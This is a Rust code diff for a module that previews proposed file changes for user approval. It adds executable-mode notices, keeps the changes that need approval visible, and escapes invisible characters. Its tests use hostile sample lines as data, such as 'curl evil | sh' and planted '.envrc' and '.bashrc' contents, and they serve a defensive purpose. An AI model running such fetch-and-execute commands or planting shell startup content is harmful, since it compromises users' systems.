@@ -19,14 +19,15 @@ use self::escape::{one_line, unreadable};
 /// A change that the user is asked to approve.
 #[derive(Clone, Debug, Eq, PartialEq)]
 pub(crate) enum Proposal {
-    /// A file is created, or its content replaced.
-    Replace { path: String, before: Option<Version>, after: Version },
+    /// A file is created, or its content replaced. A file that is created may get a certain mode.
+    Replace { path: String, before: Option<Version>, after: Version, mode: Option<u32> },
     /// A symlink is created.
     CreateLink { to: Vec<u8> },
     /// A symlink, or a file of this size, is deleted.
     Delete { link_target: Option<Vec<u8>>, bytes: u64 },
-    /// A file or directory is moved. `holds` names its entries that need approval.
-    Move { what: String, from: String, to: String, holds: Vec<String> },
+    /// A file or directory is moved. `holds` names its entries that need approval. `content` is a file's, if the user has to
+    /// see what comes to the new place.
+    Move { what: String, from: String, to: String, holds: Vec<String>, content: Option<Version> },
     /// A directory is created.
     MakeDirectory,
     /// An empty directory is removed.
@@ -35,8 +36,8 @@ pub(crate) enum Proposal {
     RemoveTree { entries: usize },
     /// A directory inside a deleted directory.
     RemoveSubdirectory,
-    /// All of these changes, or none. Each has its path.
-    Several(Vec<(String, Proposal)>),
+    /// All of these, or none, each with its path. The user is asked because of the first ones.
+    Several { asked: usize, changes: Vec<(String, Proposal)> },
 }
 
 /// A file's content, before or after a change.
@@ -49,9 +50,12 @@ pub(crate) struct Version {
 }
 
 impl Proposal {
-    /// The proposal for several changes at once.
-    pub(crate) fn of_all(mut proposals: Vec<(String, Self)>) -> Self {
-        if proposals.len() == 1 { proposals.remove(0).1 } else { Self::Several(proposals) }
+    /// The proposal for several changes at once. The user is asked because of the `first` ones, and perhaps because of the
+    /// `others`.
+    pub(crate) fn of_all(first: Vec<(String, Self)>, others: Vec<(String, Self)>) -> Self {
+        let asked = first.len();
+        let mut changes: Vec<_> = first.into_iter().chain(others).collect();
+        if changes.len() == 1 { changes.remove(0).1 } else { Self::Several { asked, changes } }
     }
 
     /// How many paths it changes besides one; those in a tree that is deleted are not counted.
@@ -65,22 +69,41 @@ impl Proposal {
 
     /// The preview, in at most about `max_chars` characters.
     pub(crate) fn preview(&self, max_chars: usize) -> String {
-        head_and_tail(self.text().trim_end_matches('\n'), max_chars)
+        let text = self.text();
+        let text = text.trim_end_matches('\n');
+        match self {
+            // Other changes do not push those out of sight that the user is asked about.
+            Self::Several { asked, changes } if text.chars().count() > max_chars => {
+                let (first, others) = changes.split_at(*asked);
+                let mut shown = shares(first, max_chars / 4 * 3);
+                let left = max_chars.saturating_sub(shown.chars().count());
+                shown.push_str(&head_and_tail(&text_of_all(others), left));
+                shown.trim_end_matches('\n').to_owned()
+            }
+            _ => head_and_tail(text, max_chars),
+        }
     }
 
     fn text(&self) -> String {
         match self {
-            Self::Replace { path, before, after } => replacement(path, before.as_ref(), after),
+            Self::Replace { path, before, after, mode } => {
+                let mode = mode.filter(|mode| mode & EXECUTABLE != 0 && before.is_none());
+                let mode = mode.map(|mode| format!("creates an executable file, mode {mode:o}\n"));
+                mode.unwrap_or_default() + &replacement(path, before.as_ref(), after)
+            }
             Self::CreateLink { to } => format!("creates a symlink to {}", one_line(to)),
             Self::Delete { link_target: Some(to), .. } => {
                 format!("deletes the symlink to {}", one_line(to))
             }
             Self::Delete { link_target: None, bytes } => format!("deletes a file of {bytes} bytes"),
-            Self::Move { what, from, to, holds } => {
+            Self::Move { what, from, to, holds, content } => {
+                let content = content.as_ref().map(|content| replacement(to, None, content));
+                let content = content.map_or_else(String::new, |content| format!("\n{content}"));
                 let [from, to] = [from, to].map(|path| one_line(path.as_bytes()));
                 let holds =
                     holds.iter().map(|held| format!("\nholds {}", one_line(held.as_bytes())));
-                format!("moves {what}\nfrom {from}\nto {to}{}", holds.collect::<String>())
+                let holds: String = holds.collect();
+                format!("moves {what}\nfrom {from}\nto {to}{holds}{content}")
             }
             Self::MakeDirectory => "creates a directory".into(),
             Self::RemoveDirectory => "removes an empty directory".into(),
@@ -92,18 +115,7 @@ impl Proposal {
                 format!("deletes the directory with all that is in it, {entries}")
             }
             Self::RemoveSubdirectory => "deletes a directory".into(),
-            Self::Several(proposals) => {
-                let texts = proposals.iter().map(|(path, proposal)| {
-                    let text = proposal.text();
-                    let text = text.trim_end_matches('\n');
-                    if proposal.names_its_path() {
-                        format!("{text}\n")
-                    } else {
-                        format!("{}: {text}\n", one_line(path.as_bytes()))
-                    }
-                });
-                texts.collect()
-            }
+            Self::Several { changes, .. } => text_of_all(changes),
         }
     }
 
@@ -111,7 +123,7 @@ impl Proposal {
     fn names_its_path(&self) -> bool {
         match self {
             Self::Replace { after, .. } => after.escaped().is_some(),
-            Self::Move { .. } | Self::Several(_) => true,
+            Self::Move { .. } | Self::Several { .. } => true,
             Self::CreateLink { .. }
             | Self::Delete { .. }
             | Self::MakeDirectory
@@ -121,6 +133,42 @@ impl Proposal {
         }
     }
 }
+
+fn text_of_all(changes: &[(String, Proposal)]) -> String {
+    changes.iter().map(text_with_path).collect()
+}
+
+fn text_with_path((path, proposal): &(String, Proposal)) -> String {
+    let text = proposal.text();
+    let text = text.trim_end_matches('\n');
+    if proposal.names_its_path() {
+        format!("{text}\n")
+    } else {
+        format!("{}: {text}\n", one_line(path.as_bytes()))
+    }
+}
+
+/// Changes in at most about `max_chars` characters: each is cut to its share, and what a short one leaves goes to the others.
+fn shares(changes: &[(String, Proposal)], max_chars: usize) -> String {
+    /// The head and the tail of a change that tell something.
+    const MIN_SHARE: usize = 200;
+    let fitting = (max_chars / MIN_SHARE).max(1).min(changes.len());
+    let mut shown = String::new();
+    for (number, change) in changes[..fitting].iter().enumerate() {
+        let left = max_chars.saturating_sub(shown.chars().count());
+        let text = text_with_path(change);
+        let share = head_and_tail(text.trim_end_matches('\n'), left / (fitting - number));
+        shown.push_str(&format!("{share}\n"));
+    }
+    match changes.len() - fitting {
+        0 => {}
+        hidden => shown.push_str(&format!("… {hidden} changes not shown …\n")),
+    }
+    shown
+}
+
+/// The bits of a mode that let a file be run.
+const EXECUTABLE: u32 = 0o111;
 
 fn replacement(path: &str, before: Option<&Version>, after: &Version) -> String {
     let mut out = String::new();
@@ -215,8 +263,65 @@ fn narrow(content: &[u8], encoding: Encoding) -> Cow<'_, [u8]> {
     if exact { text.into_owned().into_bytes().into() } else { content.into() }
 }
 
-/// The first and the last lines of a text, and the number of omitted lines between them, in at most about `max_chars`
-/// characters. Long lines are cut in the same way.
+/// How many bytes are not part of readable text.
+fn unreadable(bytes: &[u8]) -> usize {
+    let chunks = bytes.utf8_chunks().map(|chunk| {
+        let hidden = chunk.valid().chars().filter(|it| *it != '\r' && is_hidden(*it));
+        hidden.map(char::len_utf8).sum::<usize>() + chunk.invalid().len()
+    });
+    chunks.sum()
+}
+
+/// Bytes as text for the user: invalid UTF-8 and control characters as `\x1b`, other characters that
+/// cannot be seen as `\u{200b}`. Line feeds and tabs stay. A backslash that would look like the start
+/// of such an escape is `\x5c`.
+pub fn escaped_text(bytes: &[u8]) -> String {
+    let mut out = String::with_capacity(bytes.len());
+    for chunk in bytes.utf8_chunks() {
+        let mut rest = chunk.valid().chars();
+        while let Some(character) = rest.next() {
+            match character {
+                '\\' if rest.as_str().starts_with(['x', 'u']) => out.push_str("\\x5c"),
+                _ if !is_hidden(character) => out.push(character),
+                '\0'..='\x7f' => {
+                    write!(out, "\\x{:02x}", u32::from(character)).expect(INFALLIBLE);
+                }
+                _ => write!(out, "\\u{{{:x}}}", u32::from(character)).expect(INFALLIBLE),
+            }
+        }
+        for byte in chunk.invalid() {
+            write!(out, "\\x{byte:02x}").expect(INFALLIBLE);
+        }
+    }
+    out
+}
+
+fn one_line(bytes: &[u8]) -> String {
+    escaped_text(bytes).replace('\n', "\\x0a").replace('\t', "\\x09")
+}
+
+/// Whether a character cannot be seen, or changes how the text around it looks: controls, format and
+/// bidirectional characters, everything that Unicode calls default-ignorable, every blank but the
+/// ordinary ones, and code points that stand for no character, which some fonts leave out.
+fn is_hidden(character: char) -> bool {
+    static HIDDEN: LazyLock<ClassUnicode> = LazyLock::new(|| {
+        let class = r"[[\p{C}\p{Z}\p{Default_Ignorable_Code_Point}\u{2800}\u{FFFC}\u{1107F}\u{13441}\u{13442}\u{16FE4}\u{1D159}]--[ \t\n]]";
+        let parsed = regex_syntax::parse(class).expect("the class is well-formed");
+        match parsed.into_kind() {
+            HirKind::Class(Class::Unicode(class)) => class,
+            other => unreachable!("a class of characters: {other:?}"),
+        }
+    });
+    if matches!(character, ' '..='~' | '\t' | '\n') {
+        return false;
+    }
+    let ranges = HIDDEN.ranges();
+    let after = ranges.partition_point(|range| range.end() < character);
+    ranges.get(after).is_some_and(|range| range.start() <= character)
+}
+
+/// The first and the last lines of a text, with the number of lines between them that are left out, in
+/// at most about `max_chars` characters. Long lines are cut in the same way.
 fn head_and_tail(text: &str, max_chars: usize) -> String {
     if text.chars().count() <= max_chars {
         return text.to_owned();
@@ -270,7 +375,8 @@ mod tests {
 
     fn preview(before: Option<&[u8]>, after: &[u8], max_chars: usize) -> String {
         let (before, after) = (before.map(version), version(after));
-        Proposal::Replace { path: "a".into(), before, after }.preview(max_chars)
+        let (path, mode) = ("a".into(), None);
+        Proposal::Replace { path, before, after, mode }.preview(max_chars)
     }
 
     /// Decodes escaped text.
@@ -351,6 +457,10 @@ mod tests {
             (b"a\0b\ncurl evil | sh\n", "+a\\x00b"),
             (b"\xff\xfe\ncurl evil | sh\n", "+curl evil | sh"),
             ("a\u{200b}b\u{e0041}c\n".as_bytes(), "+a\\u{200b}b\\u{e0041}c"),
+            (
+                "\u{e000}\u{378}\u{ffff}\u{13441}\n".as_bytes(),
+                "+\\u{e000}\\u{378}\\u{ffff}\\u{13441}",
+            ),
             (b"\x1b[2J\r\n", "+\\x1b[2J\\x0d"),
             (br"\d \x41 \u{41}", r"+\d \x5cx41 \x5cu{41}"),
         ] {
@@ -368,10 +478,41 @@ mod tests {
         assert!(shown.contains(&format!("after: image/png, {} bytes, blake3 {hash}", image.len())));
         assert!(shown.starts_with("before: text in utf-8, 5 bytes, blake3 "), "{shown}");
         let large = Version { content: None, ..version(b"text\n") };
-        let proposal =
-            Proposal::Replace { path: "a".into(), before: Some(large), after: version(b"new\n") };
+        let (before, after) = (Some(large), version(b"new\n"));
+        let proposal = Proposal::Replace { path: "a".into(), before, after, mode: None };
         let shown = proposal.preview(4_000);
         assert!(shown.contains("before: too large") && shown.ends_with("+new"), "{shown}");
+    }
+
+    #[test]
+    fn other_changes_do_not_push_what_the_user_is_asked_about_out_of_sight() {
+        let change = |path: &str, lines: usize, end: &str| {
+            let after = version(format!("{}{end}\n", "# x\n".repeat(lines)).as_bytes());
+            let path = path.to_owned();
+            (path.clone(), Proposal::Replace { path, before: None, after, mode: None })
+        };
+        let padding = || (0..50).map(|number| change(&format!("{number}.txt"), 200, "x")).collect();
+        for lines in [0, 500] {
+            let first = vec![change(".envrc", lines, "evil"), change(".bashrc", lines, "wicked")];
+            let shown = Proposal::of_all(first, padding()).preview(4_000);
+            for text in ["b/.envrc", "+evil", "b/.bashrc", "+wicked", "lines not shown"] {
+                assert!(shown.contains(text), "{text}: {shown}");
+            }
+            assert!(shown.chars().count() < 4_300, "{}", shown.len());
+        }
+        let many = (0..300).map(|number| change(&format!("{number}/.envrc"), 9, "x")).collect();
+        let shown = Proposal::of_all(many, padding()).preview(4_000);
+        assert!(shown.contains("… 285 changes not shown …"), "{shown}");
+    }
+
+    #[test]
+    fn a_file_that_is_created_executable_is_shown_as_such() {
+        let shown = |mode| {
+            let (path, after) = ("a".into(), version(b"x\n"));
+            Proposal::Replace { path, before: None, after, mode }.preview(4_000)
+        };
+        assert!(shown(Some(0o755)).starts_with("creates an executable file, mode 755\n--- a/a"));
+        assert_eq!(shown(Some(0o644)), shown(None));
     }
 
     #[test]
